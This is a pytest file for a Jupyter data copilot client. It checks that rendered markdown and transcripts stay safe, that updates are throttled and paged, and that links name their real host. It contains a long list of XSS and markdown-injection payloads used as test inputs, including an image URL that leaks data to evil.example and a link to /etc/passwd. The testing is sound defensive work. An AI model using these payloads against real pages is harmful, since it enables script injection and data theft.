"""What a turn looks like: safe HTML, plain text, bounded updates."""

import re
import signal
from html.parser import HTMLParser

import pytest
from fake_server import RESULT

from table_copilot_jupyter.client import mime, style
from table_copilot_jupyter.client.figures import elapsed, short_arguments, size
from table_copilot_jupyter.client.html import transcript_html
from table_copilot_jupyter.client.markdown import MarkdownStream, markdown_html, sanitised, sanitised_table
from table_copilot_jupyter.client.pages import LIMIT
from table_copilot_jupyter.client.plain import transcript_text
from table_copilot_jupyter.client.render import NotebookView, TerminalView
from table_copilot_jupyter.client.transcript import Transcript
from table_copilot_jupyter.client.visible import visible

ATTACKS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<img src=x onerror=alert(1)>",
    "<img src='https://evil.example/pixel.gif'>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><a xlink:href='javascript:alert(1)'><text>x</text></a></svg>",
    "<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data=data:text/html;base64,PHNjcmlwdD4=></object>",
    "<embed src=//evil.example/x.swf>",
    "<body onload=alert(1)>",
    "<details open ontoggle=alert(1)>x</details>",
    "<video><source onerror=alert(1)></video>",
    "<audio src=x onerror=alert(1)>",
    "<input autofocus onfocus=alert(1)>",
    "<form action=https://evil.example><button>go</button></form>",
    "<button form=x formaction=javascript:alert(1)>x</button>",
    "<a href='javascript:alert(1)'>x</a>",
    "<base href=https://evil.example/>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "<style>@import 'https://evil.example/x.css';</style>",
    "<div style='background:url(https://evil.example/x)'>x</div>",
    "<p id=jp-main-dock-panel name=cookie class=jp-Toolbar>x</p>",
    "<div data-commandlinker-command='terminal:create-new' data-mime-type=x>x</div>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<textarea></textarea><script>alert(1)</script>",
    "<template><script>alert(1)</script></template>",
    "<!--><img src=x onerror=alert(1)>-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?xml-stylesheet href='javascript:alert(1)'?>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](java\tscript:alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](<javascript:alert(1)>)",
    "[x](vbscript:msgbox(1))",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[x](file:///etc/passwd)",
    "[x](//evil.example/x)",
    "[x](/api/shutdown)",
    "[x](#jp-main-dock-panel)",
    "[x]: javascript:alert(1)\n\n[x]",
    "<javascript:alert(1)>",
    "![x](https://evil.example/leak?data=secret)",
    "![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)",
    "![x](javascript:alert(1))",
    '!["onerror=alert(1) x="](https://evil.example/a"onload="alert(1))',
    '[x](https://evil.example "onmouseover=alert(1) \\" onclick=alert(1)")',
    "```html\n<script>alert(1)</script>\n```",
    '```"><script>alert(1)</script>\nx\n```',
    "```python onclick=alert(1)\nprint('<img src=x onerror=alert(1)>')\n```",
    "    <script>alert(1)</script>",
    "`<img src=x onerror=alert(1)>`",
    "| a |\n|---|\n| <img src=x onerror=alert(1)> |",
    "- [ ] <input onfocus=alert(1)>",
    "# <script>alert(1)</script>",
    "> <svg/onload=alert(1)>",
    "\x00<script>alert(1)</script>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "a\u202eevil\u202c b",
]
ALLOWED_TAGS = {
    *("div", "p", "br", "hr", "h1", "h2", "h3", "h4", "h5", "h6", "b", "i", "strong", "em", "s", "code", "pre", "span"),
    *("blockquote", "ul", "ol", "li", "a", "table", "thead", "tbody", "tr", "th", "td", "details", "summary"),
    *("caption", "img", "sup"),
}


class Inventory(HTMLParser):
    """Every tag and attribute of a piece of HTML."""

    def __init__(self, markup):
        super().__init__()
        self.tags, self.attributes, self.text = [], [], ""
        self.feed(markup)
        self.close()

    def handle_starttag(self, tag, attrs):
        self.tags.append(tag)
        self.attributes += [(tag, name, value or "") for name, value in attrs]

    def handle_data(self, data):
        self.text += data

    def handle_comment(self, data):
        raise AssertionError(f"a comment: {data!r}")

    def handle_decl(self, decl):
        raise AssertionError(f"a declaration: {decl!r}")


def assert_safe(markup):
    found = Inventory(markup)
    assert set(found.tags) <= ALLOWED_TAGS
    for tag, name, value in found.attributes:
        if name == "href":
            assert tag == "a"
            assert value.startswith(("http://", "https://", "mailto:", "#tcj-"))
        elif name == "src":
            assert tag == "img"  # in which a browser runs nothing
            assert re.fullmatch(r"data:image/(svg\+xml|png);base64,[A-Za-z0-9+/=]+", value)
        elif name == "style":
            assert "url(" not in value
            assert "position" not in value
        else:
            assert (tag, name) in {
                *(("a", "rel"), ("a", "target"), ("a", "title"), ("ol", "start")),
                *(("th", "title"), ("span", "title"), ("div", "id"), ("img", "alt")),
            }, (tag, name, value)
    for tag, name, value in found.attributes:
        if (tag, name) == ("a", "rel"):
            assert value == "noopener noreferrer"
        elif (tag, name) == ("div", "id"):
            assert re.fullmatch(r"tcj-[A-Za-z0-9]*-q[0-9]+", value)
    return found


def turn(*events):
    transcript = Transcript()
    for event in events:
        transcript.apply(event)
    return transcript


def test_what_is_taken_back_or_closed_elsewhere_shows_nothing():
    transcript = turn(
        {"type": "message", "message_id": "m", "agent": "copilot", "content": "Here."},
        {"type": "sent", "bytes": 10, "tables": []},
        {"type": "rewound", "message_id": "u", "first_seq": 1},
        {"type": "reminder_closed", "reminder_id": "r", "action": "done", "by": "lab"},
    )
    assert (transcript.text, len(transcript.parts), transcript.sent.requests) == ("Here.", 1, 1)


def hostile_bundles(text):
    """Every kind of output, with the text wherever a text can stand."""
    tables = [{"name": text, "fingerprint": {"rows": text, "columns": text}}]
    evidence = {"ref": "q1", "variable": text, "sql": text, "at": text, "rows": 9, "tables": tables}
    column = {"name": text, "type": text, "numeric": False}
    shown = {"ref": "q1", "title": text, "sql": text, "code": text, "evidence": evidence}
    error = {"name": text, "message": text, "traceback": text}
    run = {"code": text, "stdout": text, "stderr": text, "outputs": [{"text/html": text}, {"image/png": text}]}
    return [
        {mime.TABLE: {**shown, "columns": [column], "rows": [[text]], "total_rows": 1234}, "text/plain": text},
        {mime.TABLE: {**shown, "ref": text, "columns": [column, text], "rows": [[text, {text: text}], text]}},
        {mime.CHART: {**shown, "spec": {}}, "image/svg+xml": text, "text/plain": text},
        {mime.CHART: {**shown, "spec": {}}, "text/plain": text},
        {mime.RUN: {**run, "error": error, "variables": {"new": [text], "changed": text, "removed": [1]}}},
    ]


def asking_for(tool, arguments):
    return {"type": "approval", "approval_id": tool, "content": tool, "tool": tool, "arguments": arguments}


def hostile_events(text):
    """Every place where somebody else's text is shown, with the same text."""
    return [
        {"type": "turn_started", "model": text},
        {"type": "reasoning", "message_id": "m", "agent": text, "delta": text},
        {"type": "message", "message_id": "m", "agent": text, "content": text},
        {"type": "tool_started", "call_id": "c", "tool": text, "arguments": {text: text, "b": [text]}, "agent": text},
        {"type": "message", "message_id": "n", "agent": text, "content": text, "parent_call_id": "c"},
        {"type": "tool_output", "call_id": "c", "mime": {"text/html": text}},
        {"type": "tool_output", "call_id": "c", "mime": {"text/markdown": text}},
        {"type": "tool_output", "call_id": "c", "mime": {"text/plain": text}},
        {"type": "tool_output", "call_id": "c", "mime": {"application/json": {text: text}}},
        *({"type": "tool_output", "call_id": "c", "mime": mime} for mime in hostile_bundles(text)),
        {"type": "tool_finished", "call_id": "c", "ok": False, "content": text, "elapsed_ms": 3},
        {"type": "message", "message_id": "o", "agent": text, "content": f"{text} [q1] {text}"},
        {"type": "evidence", "message_id": "o", "refs": ["q1", text], "numbers": [{"text": text}, {"ref": text}]},
        {"type": "tool_started", "call_id": "d", "tool": "run_code", "arguments": {"code": text}, "agent": "copilot"},
        {"type": "question", "question_id": "q", "content": text, "options": [text, text]},
        {"type": "question", "question_id": "r", "content": text, "options": []},
        {"type": "question_closed", "question_id": "r", "answer": text, "by": text},
        {"type": "approval", "approval_id": "a", "content": text, "tool": text, "arguments": {"code": text}},
        {"type": "approval", "approval_id": "b", "content": text, "tool": text, "arguments": {text: text}},
        {"type": "approval_closed", "approval_id": "b", "decision": text, "by": text, "note": text},
        asking_for("share_data", dict.fromkeys(("what", "preview", "model", "host", "level"), text)),
        asking_for("run_code", dict.fromkeys(("code", "sha256", "kernel", "notebook"), text)),
        {"type": "notice", "content": text, "level": "warning"},
        {"type": "sent", "bytes": 10, "tables": [{"rows": 3}]},
        {"type": "error", "code": text, "message": text, "hint": text},
        {"type": "turn_finished", "reason": "error"},
    ]


@pytest.mark.parametrize("attack", ATTACKS)
def test_nothing_that_acts_or_loads_comes_out_of_an_attack(attack):
    assert_safe(markdown_html(attack))
    assert_safe(transcript_html(turn(*hostile_events(attack))))


@pytest.mark.parametrize("attack", ATTACKS)
def test_the_second_sanitiser_is_safe_alone(attack):
    assert_safe(sanitised(attack))
    assert Inventory(sanitised_table(attack)).attributes == []
    assert_safe(sanitised_table(attack))


@pytest.mark.parametrize("attack", ATTACKS)
def test_a_stream_cut_anywhere_is_safe(attack):
    stream = MarkdownStream()
    for end in range(1, len(attack) + 1, 3):
        stream.feed(attack[:end])
        assert_safe("".join(markup for markup, _ in stream.peek_done()) + stream.tail()[0])


def test_markdown_is_rendered():
    found = assert_safe(
        markdown_html(
            "# Title\n\nSome **bold** ~~gone~~ `code`.\n\n| a | b |\n|:--|--:|\n| 1 | 2 |\n\n"
            "- [x] done\n- [ ] open\n\n```python\ndef f(): return 'x'\n```\n\n3. third\n"
        )
    )
    assert {"h1", "strong", "s", "code", "table", "th", "td", "pre", "ol", "span"} <= set(found.tags)
    assert "☑ done" in found.text
    assert "☐ open" in found.text
    assert ("ol", "start", "3") in found.attributes
    assert any(value.endswith("text-align:right") for tag, name, value in found.attributes if tag == "td")


def test_a_link_opens_apart_and_its_title_is_where_it_leads():
    markup = markdown_html('[bank](https://user@evil.example/x "https://bank.example")')
    assert 'title="https://evil.example"' in markup
    assert 'target="_blank"' in markup
    assert 'rel="noopener noreferrer"' in markup
    assert 'title="mailto:a@b.example"' in markdown_html("<mailto:a@b.example>")


def test_an_image_becomes_its_description_and_a_link():
    found = Inventory(markdown_html("![a chart](https://example.org/chart.png)"))
    assert "img" not in found.tags
    assert found.text.strip() == "[image: a chart] (https://example.org)"


def test_code_follows_the_theme_of_jupyter():
    markup = markdown_html("```python\nreturn 1\n```")
    assert "var(--jp-mirror-editor-keyword-color, #008000)" in markup
    assert all("#" in value or "color" not in value for value in style.TOKENS.values())


def test_hidden_characters_are_spelled_out():
    assert visible("a\u202eb\x1b[31m\r\nc\x07") == "a<U+202E>b<U+001B>[31m\nc<U+0007>"
    assert visible("a\u200bb\ufeff\U000e0041") == "a<U+200B>b<U+FEFF><U+E0041>"


LONG = (
    "# One\n\nA paragraph\nwith lines.\n\n- a\n- b\n\n  more of b\n\n1. x\n\n2. y\n\n"
    "```sql\nSELECT 1;\n\nSELECT 2;\n```\n\n"
    "| a | b |\n|---|---|\n| 1 | 2 |\n\n> quote\n> more\n\nSetext\n===\n\nThe end\n"
)


@pytest.mark.parametrize("step", [1, 3, 7, 50])
def test_a_stream_ends_as_the_whole_text_would(step):
    stream, done = MarkdownStream(), ""
    for end in range(0, len(LONG), step):
        stream.feed(LONG[:end])
        done += "".join(markup for markup, _ in stream.take_done())
    stream.feed(LONG, final=True)
    done += "".join(markup for markup, _ in stream.take_done())
    whole = MarkdownStream().render(LONG, final=True)
    assert Inventory(done).text.split() == Inventory(whole).text.split()
    assert Inventory(done).tags == Inventory(whole).tags


def test_a_complete_block_is_rendered_once(monkeypatch):
    rendered = []
    stream = MarkdownStream()
    original = stream._html
    monkeypatch.setattr(stream, "_html", lambda tokens: rendered.append(len(tokens)) or original(tokens))
    text = "".join(f"Paragraph {number} with words.\n\n" for number in range(200))
    for end in range(0, len(text), 40):
        stream.feed(text[:end])
    stream.feed(text, final=True)
    assert max(rendered) <= 12  # tokens of a few paragraphs, however long the text is


class Outputs:
    """Keeps what a notebook would show."""

    def __init__(self):
        self.pages, self.updates, self.sizes = {}, 0, []

    def __call__(self, page, new):
        assert new is (page.index not in self.pages)
        self.pages[page.index] = page
        self.updates += 1
        self.sizes.append(len(page.html))


def test_updates_come_at_most_ten_times_a_second_and_the_last_always():
    now = [0.0]
    outputs, transcript = Outputs(), Transcript()
    view = NotebookView(transcript, outputs, clock=lambda: now[0])
    for number in range(1000):
        now[0] += 0.001
        event = {"type": "text", "message_id": "m", "agent": "copilot", "delta": f"w{number} "}
        view.update(event, transcript.apply(event))
    assert outputs.updates <= 11
    view.finish()
    assert "w999" in outputs.pages[0].html
    assert outputs.pages[0].text.endswith("w999 ")


def test_an_interrupt_while_an_output_is_opened_neither_doubles_nor_loses_it():
    outputs, transcript = Outputs(), Transcript()

    def publish(page, new):
        if not outputs.updates:
            signal.raise_signal(signal.SIGINT)
        outputs(page, new)

    view = NotebookView(transcript, publish, clock=lambda: 0.0)
    event = {"type": "text", "message_id": "m", "agent": "copilot", "delta": "hello"}
    with pytest.raises(KeyboardInterrupt):
        view.update(event, transcript.apply(event))
    assert "hello" in outputs.pages[0].html
    view.finish()


def test_nothing_is_sent_again_while_nothing_changes():
    now = [0.0]
    outputs, transcript = Outputs(), Transcript()
    view = NotebookView(transcript, outputs, clock=lambda: now[0])
    event = {"type": "text", "message_id": "m", "agent": "copilot", "delta": "hello"}
    view.update(event, transcript.apply(event))
    for _ in range(50):
        now[0] += 0.1
        view.update(None, None)
    assert outputs.updates == 1


def test_a_long_answer_is_spread_over_outputs_and_each_update_stays_small():
    now = [0.0]
    outputs, transcript = Outputs(), Transcript()
    view = NotebookView(transcript, outputs, clock=lambda: now[0])
    paragraphs = [f"Paragraph {number}: " + "word " * 60 for number in range(400)]
    for paragraph in paragraphs:
        now[0] += 0.2
        event = {"type": "text", "message_id": "m", "agent": "copilot", "delta": f"{paragraph}\n\n"}
        view.update(event, transcript.apply(event))
    view.finish()
    assert len(outputs.pages) > 5
    assert max(outputs.sizes) < LIMIT + 4_000
    everything = " ".join(Inventory(outputs.pages[index].html).text for index in sorted(outputs.pages))
    assert everything.split() == " ".join(paragraphs).split()


def test_a_tool_that_runs_is_updated_in_its_place():
    outputs, transcript = Outputs(), Transcript()
    view = NotebookView(transcript, outputs, clock=lambda: 0.0)
    for event in [
        {"type": "message", "message_id": "m", "agent": "copilot", "content": "Let me look."},
        {"type": "tool_started", "call_id": "c", "tool": "query_table", "arguments": {"sql": "SELECT 1"}},
    ]:
        view.update(event, transcript.apply(event))
    view.flush()
    assert "running…" in outputs.pages[0].html
    transcript.apply({"type": "tool_finished", "call_id": "c", "ok": True, "content": "1 row", "elapsed_ms": 12})
    transcript.apply({"type": "message", "message_id": "n", "agent": "copilot", "content": "One."})
    view.finish()
    text = Inventory(outputs.pages[0].html).text
    assert "query_table SELECT 1 · ok · 12 ms" in text
    assert text.index("Let me look.") < text.index("query_table") < text.index("One.")


def query(call_id, *, parent=None, ref="q1"):
    """The events of a query whose result has 3 rows."""
    bundle = {mime.TABLE: {**RESULT, "ref": ref, "evidence": None}, "text/plain": f"rows of {ref}"}
    return [
        {"type": "tool_started", "call_id": call_id, "tool": "query_table", "parent_call_id": parent},
        {"type": "tool_output", "call_id": call_id, "mime": bundle},
        {"type": "tool_finished", "call_id": call_id, "ok": True, "content": "", "elapsed_ms": 12},
    ]


class Notebook:
    """A turn as a notebook shows it."""

    def __init__(self):
        self.outputs, self.transcript = Outputs(), Transcript()
        self.view = NotebookView(self.transcript, self.outputs, clock=lambda: 0.0)

    def show(self, *events):
        for event in events:
            self.view.update(event, self.transcript.apply(event))
        self.view.flush()
        return self

    @property
    def rows(self):
        """What each output shows, in short."""
        pages = [page for _, page in sorted(self.outputs.pages.items())]
        return ["table" if page.rich else Inventory(page.html).text.strip() for page in pages]


def test_a_result_is_an_output_of_its_own_between_what_was_said_before_and_after():
    notebook = Notebook().show(
        {"type": "message", "message_id": "m", "agent": "copilot", "content": "Let me look."},
        *query("c"),
        *query("d", ref="q2"),
        {"type": "message", "message_id": "n", "agent": "copilot", "content": "So."},
    )
    notebook.view.finish()
    first, table, second, _, last = notebook.rows
    assert first.startswith("Let me look.\nquery_table")
    assert first.endswith("· q1 · 3 rows · 12 ms")
    assert "q2 · 3 rows" in second
    assert (table, last) == ("table", "So.")
    pages = [page for _, page in sorted(notebook.outputs.pages.items())]
    assert [mime.TABLE in page.rich for page in pages] == [False, True, False, True, False]
    assert "".join(page.html for page in pages).count("<table") == 2
    assert [page.text for page in pages][1] == "rows of q1\nq1 · 3 rows"


def test_the_result_of_a_delegate_is_seen_at_once_and_stands_alone_when_its_caller_has_ended():
    begun = {"type": "tool_started", "call_id": "c", "tool": "analyst"}
    notebook = Notebook().show(begun, *query("d", parent="c"))
    assert "Biscoe" in notebook.rows[0]
    notebook.show({"type": "tool_finished", "call_id": "c", "ok": True, "content": "done", "elapsed_ms": 50})
    notebook.view.finish()
    assert "Biscoe" not in notebook.rows[0]
    assert notebook.rows[1] == "table"


def test_a_call_that_ends_before_one_that_began_earlier_keeps_its_place():
    begun = {"type": "tool_started", "call_id": "slow", "tool": "slow"}
    notebook = Notebook().show(begun, *query("d"))
    assert "Biscoe" in notebook.rows[0]
    notebook.show({"type": "tool_finished", "call_id": "slow", "ok": True, "content": "", "elapsed_ms": 50})
    notebook.view.finish()
    assert [row == "table" for row in notebook.rows] == [False, True]
    assert notebook.rows[0].index("slow") < notebook.rows[0].index("query_table")


def test_what_is_waited_for_does_not_stay_in_sight_below_a_result():
    notebook = Notebook().show({"type": "turn_started", "model": "offline"}, *query("c"))
    notebook.show({"type": "connection", "content": "Reconnecting (1 of 5)…", "attempt": 1, "of": 5})
    assert notebook.rows[2] == "Reconnecting (1 of 5)…"
    notebook.view.finish()
    assert notebook.rows[2] == ""


def test_a_list_of_tables_stands_inside_its_call():
    listed = {mime.TABLE: {**RESULT, "ref": None, "title": "3 tables"}, "text/plain": "3 tables"}
    transcript = turn(
        {"type": "tool_started", "call_id": "c", "tool": "list_tables"},
        {"type": "tool_output", "call_id": "c", "mime": listed},
        {"type": "tool_finished", "call_id": "c", "ok": True, "content": "", "elapsed_ms": 5},
    )
    markup = transcript_html(transcript)
    assert markup.index("3 tables · 5 ms") < markup.index("<table") < markup.rindex("</details>")
    assert transcript_text(transcript) == "▸ list_tables · 3 tables · 5 ms"


def test_calls_of_a_delegate_are_inside_the_call_that_started_it():
    transcript = turn(
        {"type": "tool_started", "call_id": "c", "tool": "analyst", "arguments": {}, "agent": "copilot"},
        {"type": "tool_started", "call_id": "d", "tool": "query", "agent": "analyst", "parent_call_id": "c"},
        {"type": "tool_finished", "call_id": "d", "ok": False, "content": "no such table", "elapsed_ms": 2300},
        {"type": "message", "message_id": "s", "agent": "analyst", "content": "inner", "parent_call_id": "c"},
        {"type": "tool_finished", "call_id": "c", "ok": True, "content": "done", "elapsed_ms": 1},
        {"type": "message", "message_id": "m", "agent": "copilot", "content": "Outer."},
    )
    markup = transcript_html(transcript)
    assert markup.index("analyst") < markup.index("query") < markup.index("failed · 2.3 s") < markup.index("Outer.")
    assert transcript.text == "Outer."
    assert [tool.tool for tool in transcript.tools()] == ["analyst", "query"]


def test_a_table_from_a_nested_call_is_in_sight():
    transcript = turn(
        {"type": "tool_started", "call_id": "c", "tool": "analyst", "arguments": {}},
        {"type": "tool_started", "call_id": "d", "tool": "query", "parent_call_id": "c"},
        {"type": "tool_output", "call_id": "d", "mime": {"text/html": "<table></table>", "text/plain": "a b"}},
        {"type": "tool_finished", "call_id": "d", "ok": True, "content": "1 row", "elapsed_ms": 2},
        {"type": "tool_finished", "call_id": "c", "ok": True, "content": "done", "elapsed_ms": 3},
    )
    markup = transcript_html(transcript)
    assert markup.count("<table>") == 1
    assert markup.rindex("</details>") < markup.index("<table>")
    assert transcript_text(transcript) == "▸ analyst · ok · 3 ms\na b"


def test_the_last_line_tells_model_tokens_and_what_was_sent():
    transcript = turn(
        {"type": "turn_started", "model": "kimi-k2.5"},
        {"type": "message", "message_id": "m", "agent": "copilot", "content": "Hi."},
        {"type": "usage", "input": 1200, "output": 30},
        {"type": "sent", "bytes": 700, "tables": [{"name": "df", "level": "schema", "columns": 3, "rows": 0}]},
        {"type": "sent", "bytes": 500, "tables": []},
        {"type": "turn_finished", "reason": "complete"},
    )
    line = "kimi-k2.5 · 1 200 + 30 tokens · sent so far: 2 requests · 0 rows · 1.2 kB"
    assert line.replace(" ", "\u2009") in transcript_html(transcript).replace(" ", "\u2009")
    assert transcript_text(transcript).replace("\u2009", " ").endswith(line)


def test_an_agent_is_named_only_when_it_is_not_the_copilot():
    def said_by(agent):
        return transcript_html(turn({"type": "message", "message_id": "m", "agent": agent, "content": "x"}))

    assert "small-caps" not in said_by("copilot")
    assert "small-caps" in said_by("planner")


def test_reasoning_is_folded_and_while_it_grows_only_its_end_is_shown():
    transcript = turn({"type": "reasoning", "message_id": "m", "agent": "copilot", "delta": "early " + "x " * 5000})
    assert "early" not in transcript_html(transcript)
    transcript.apply({"type": "message", "message_id": "m", "agent": "copilot", "content": "So."})
    assert "<details" in transcript_html(transcript)
    assert "early" in transcript_html(transcript)


def test_a_question_folds_to_its_answer():
    transcript = turn({"type": "question", "question_id": "q", "content": "Which?", "options": ["a", "b"]})
    assert "<li>a</li>" in transcript_html(transcript)
    assert transcript_text(transcript) == "Which?\n  1. a\n  2. b"
    transcript.apply({"type": "question_closed", "question_id": "q", "answer": "b", "by": "page"})
    assert "Which? → b" in transcript_html(transcript)


def test_code_to_approve_shows_its_hidden_characters_and_where_it_would_run():
    arguments = {"code": "x\u202ey", "sha256": "abc", "kernel": "k1", "notebook": "penguins.ipynb"}
    transcript = turn(asking_for("run_code", arguments))
    for shown in (Inventory(transcript_html(transcript)).text, transcript_text(transcript)):
        assert "x<U+202E>y" in shown
        assert "penguins.ipynb · kernel k1" in shown
        assert "abc" not in shown


def test_a_consent_says_what_would_leave_and_where_to_and_folds_exactly_that():
    arguments = {"what": "3 rows of q1", "preview": "a,b\n1,2", "model": "kimi", "host": "h.example", "level": "rows"}
    transcript = turn(asking_for("share_data", arguments))
    markup = transcript_html(transcript)
    folded = markup[markup.index("<details") : markup.index("</details>")]
    assert "a,b\n1,2" in folded
    assert "It would go to kimi on h.example." in markup.replace(folded, "")
    assert "a,b\n1,2" in transcript_text(transcript)
    closed = {"type": "approval_closed", "approval_id": "share_data", "decision": "deny", "by": "magic"}
    transcript.apply({**closed, "note": "Not these."})
    assert transcript_text(transcript) == "Show the model 3 rows of q1: not allowed\nNot these."
    assert "Not these." in transcript_html(transcript)


def test_a_partial_answer_stays_above_its_error():
    transcript = turn(
        {"type": "text", "message_id": "m", "agent": "copilot", "delta": "Half an"},
        {"type": "error", "code": "timeout", "message": "It took too long.", "hint": "Ask for less."},
        {"type": "turn_finished", "reason": "error"},
    )
    text = Inventory(transcript_html(transcript)).text
    assert text.index("Half an") < text.index("It took too long.") < text.index("Ask for less.")


def test_a_stopped_turn_says_so():
    transcript = turn({"type": "turn_finished", "reason": "cancelled"})
    assert "Stopped." in transcript_html(transcript)
    assert transcript_text(transcript) == "Stopped."


def test_a_terminal_gets_the_text_as_it_arrives():
    written, transcript = [], Transcript()
    view = TerminalView(transcript, written.append)
    for event in [
        {"type": "text", "message_id": "m", "agent": "copilot", "delta": "Hel"},
        {"type": "text", "message_id": "m", "agent": "copilot", "delta": "lo\x1b[2J"},
        {"type": "message", "message_id": "m", "agent": "copilot", "content": "Hello\x1b[2J"},
        {"type": "tool_started", "call_id": "c", "tool": "todo", "arguments": {}},
        {"type": "tool_finished", "call_id": "c", "ok": True, "content": "", "elapsed_ms": 1},
        {"type": "message", "message_id": "n", "agent": "planner", "content": "Done."},
        {"type": "turn_finished", "reason": "complete"},
    ]:
        view.update(event, transcript.apply(event))
    assert written[:2] == ["Hel", "lo<U+001B>[2J"]
    view.finish()
    assert "".join(written) == "Hello<U+001B>[2J\n▸ todo · running…\n▸ todo · ok · 1 ms\nplanner: Done.\n"


def test_figures_are_short():
    assert (size(812), size(1234), size(3_400_000)) == ("812 B", "1.2 kB", "3.4 MB")
    assert (elapsed(12), elapsed(1234)) == ("12 ms", "1.2 s")
    assert short_arguments({"sql": "SELECT\n  1"}) == "SELECT 1"
    assert short_arguments({"a": "x", "b": 2}) == "a=x, b=2"
    assert len(short_arguments({"a": "x" * 500})) == 80


@pytest.mark.parametrize(
    ("text", "told"),
    [
        ("[x](https://a.example/y)", "x</a> (a.example)"),
        ("[https://jupyter.org](https://attacker.example)", "https://jupyter.org</a> (attacker.example)"),
        ("[https://github.com](https://github.com@evil.example/)", "https://github.com</a> (evil.example)"),
        ("[write](mailto:a@b.example?bcc=c@d.example)", "write</a> (a@b.example)"),
        ("[a.example](https://a.example/y)", "a.example</a></p>"),
        ("<https://a.example/y>", "https://a.example/y</a></p>"),
    ],
)
def test_a_link_names_its_host_where_its_text_does_not(text, told):
    assert told in markdown_html(text)


def test_a_mail_takes_nothing_along_that_nobody_saw():
    assert 'href="mailto:a@b.example"' in markdown_html("[write](mailto:a@b.example?bcc=c@d.example&body=x)")
